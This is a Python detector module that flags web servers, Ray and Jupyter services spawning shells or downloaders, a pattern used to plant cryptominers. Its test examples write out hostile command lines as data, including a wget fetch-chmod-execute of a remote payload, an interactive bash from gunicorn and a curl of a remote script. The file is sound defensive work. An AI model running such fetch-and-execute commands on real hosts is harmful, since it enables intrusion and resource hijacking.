"""Services that never start shells or downloaders (Ray, Jupyter servers, web servers) doing so."""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any, ClassVar

from detectors.base import Detector, Example, Finding, Signal
from detectors.examples import proc
from detectors.process._cmdline import DOWNLOADERS, SHELLS, argv, basename, process_fields, redact, segments
from gpusentry.contract import Dataset, event_time

WEB_SERVERS = frozenset({"nginx", "httpd", "apache2", "gunicorn", "uvicorn", "php-fpm", "caddy", "lighttpd",
                         "tritonserver", "tomcat", "hypercorn", "daphne", "waitress-serve", "tensorboard",
                         "mlflow", "streamlit", "gradio"})
RAY = frozenset({"raylet", "gcs_server", "ray", "dashboard", "ray::idle", "ray::jobsupervisor"})
JUPYTER = frozenset({"jupyter-lab", "jupyter-notebook", "jupyter-server", "jupyterhub", "jupyterhub-singleuser",
                     "jupyter-noteboo", "jupyter", "ipykernel_launcher"})


def service_kind(parent: str | None) -> str | None:
    if not parent:
        return None
    name = parent.lower()
    if name in WEB_SERVERS or name.startswith(("php-fpm", "gunicorn", "uvicorn")):
        return "web server"
    if name in RAY or name.startswith("ray::"):
        return "Ray"
    if name in JUPYTER or name.startswith("jupyter"):
        return "Jupyter"
    return None


class ServiceSpawn(Detector):
    id = "process.service_spawn"
    title = "Service spawned a shell or a downloader"
    description = ("A web server (nginx, gunicorn, uvicorn, Triton, ...), a Ray raylet or worker, or a Jupyter "
                   "server started a downloader (curl, wget, nc, ...) or a shell that runs one; web servers "
                   "starting any shell count too. This is how exposed job-submission and notebook services are "
                   "abused to start miners. Interactive Jupyter terminals (a shell with no script) are normal.")
    severity = "medium"
    technique = "T1496"
    references = ("https://attack.mitre.org/techniques/T1190/", "https://attack.mitre.org/techniques/T1496/",
                  "https://www.oligo.security/blog/shadowray-attack-ai-workloads-actively-exploited-in-the-wild")
    datasets = frozenset({Dataset.PROCESS})
    signal = Signal.SUSPICIOUS_PROCESS

    examples: ClassVar[list[Example]] = [
        Example("raylet starts a download", True,
                [proc("/bin/sh -c 'wget -q http://203.0.113.9/x -O /tmp/x && chmod +x /tmp/x && /tmp/x'",
                      parent="raylet")]),
        Example("gunicorn spawns bash", True, [proc("/bin/bash -i", parent="gunicorn")]),
        Example("jupyter server runs curl", True, [proc("/usr/bin/curl -s http://198.51.100.7/m.sh", parent="jupyter-lab")]),
        Example("jupyter terminal", False, [proc("/bin/bash -l", parent="jupyter-lab")]),
        Example("ray job entrypoint", False, [proc("/bin/sh -c 'python train.py --epochs 3'", parent="ray::JobSupervisor")]),
        Example("user shell runs curl", False, [proc("/usr/bin/curl -O https://example.org/data.tar", parent="bash")]),
    ]

    def process(self, event: dict[str, Any], state: Any) -> Iterable[Finding]:
        if event["event"]["type"] != ["start"]:
            return ()
        p = event["process"]
        parent = (p.get("parent") or {}).get("name")
        kind = service_kind(parent)
        if kind is None:
            return ()
        args = argv(p)
        if not args:
            return ()
        first = basename(args[0]).lower()
        fetches = [basename(seg[0]).lower() for seg in segments(args) if basename(seg[0]).lower() in DOWNLOADERS]
        if first in DOWNLOADERS or fetches:
            what = f"downloader {(fetches or [first])[0]}"
        elif first in SHELLS and kind == "web server":
            what = f"shell {first}"
        else:
            return ()
        return [self.finding(event, f"{kind} {parent!r} started {what} (pid {p['pid']}): "
                             f"{(redact(p.get('command_line') or ' '.join(args)) or '')[:120]}",
                             timestamp=event_time(event), score=0.6, fields=process_fields(event))]
